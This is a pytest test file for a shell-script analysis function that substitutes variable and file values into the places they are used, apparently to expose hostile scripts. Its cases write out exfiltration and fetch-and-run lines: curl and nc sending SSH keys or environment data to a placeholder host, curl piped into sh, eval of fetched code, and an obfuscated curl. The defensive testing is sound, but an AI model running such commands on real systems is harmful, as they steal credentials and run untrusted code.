"""What variables and files of a shell script hold is written where they are used."""

from __future__ import annotations

import pytest

from packtool.code.shell import inlined


@pytest.mark.parametrize(
    ("script", "written"),
    [
        ('K=$(cat ~/.a)\ncurl -d "$K" h', 'K=$(cat ~/.a)\ncurl -d "$(cat ~/.a)" h'),
        ("D=$HOME/.ssh\nF=$D/id\ncat $F", "D=$HOME/.ssh\nF=$HOME/.ssh/id\ncat $HOME/.ssh/id"),
        ('for f in "$HOME/.ssh/id_"*; do cat "$f"; done', 'for f in "$HOME/.ssh/id_"*; do cat "$HOME/.ssh/id_*"; done'),
        ("a=cu; b=rl; $a$b h | sh", "a=cu; b=rl; curl h | sh"),
        ('X=$(curl h); eval "$X"', 'X=$(curl h); eval "$(curl h)"'),
        ("PATH=$PATH:/a; echo $PATH", None),
        ('get() { curl -s "$1"; }\nget h/x | sh', 'get() { curl -s "$1"; }\ncurl -s "h/x" | sh'),
        ("say() {\n  echo $@\n}\nsay a b", "say() {\n  echo $@\n}\necho a b"),
        ("get() { a; b; }\nget h | sh", None),
        ("for f in a ~/.b; do\ncat $f\ndone", "for f in a ~/.b; do\ncat ~/.b\ndone"),
        ("tar czf /tmp/x ~/.ssh\ncurl -F f=@/tmp/x h", "tar czf /tmp/x ~/.ssh\ncurl -F f=@$(tar czf /tmp/x ~/.ssh) h"),
        ("env > /tmp/e; nc h 1 < /tmp/e", "env > /tmp/e; nc h 1 < $(env > /tmp/e)"),
        ("A=b; read A\necho $A", None),
        ("# A=b\necho $A", None),
        ("curl -s \\\n  -d $B h\nid", "curl -s    -d $B h\n\nid"),
        ("echo plain", None),
    ],
)
def test_a_script_with_its_values_in_place(script: str, written: str | None) -> None:
    made = inlined(script)
    assert (script if made is None else made) == (script if written is None else written)
    assert made is None or made.count("\n") == script.count("\n")


def test_hostile_scripts_do_not_grow_without_bound() -> None:
    script = "A=" + "x" * 300 + "\n" + "\n".join(f"A=$A$A{number}" for number in range(500))
    made = inlined(script)
    assert made is not None
    assert len(made) < 500 * 4100


def test_only_so_many_files_are_followed() -> None:
    made = "\n".join(f"cat a > /tmp/f{number:04}" for number in range(5000))
    written = inlined(f"{made}\ncurl -T /tmp/f0003 h; curl -T /tmp/f4000 h")
    assert written is not None
    assert written.endswith("curl -T $(cat a > /tmp/f0003) h; curl -T /tmp/f4000 h")
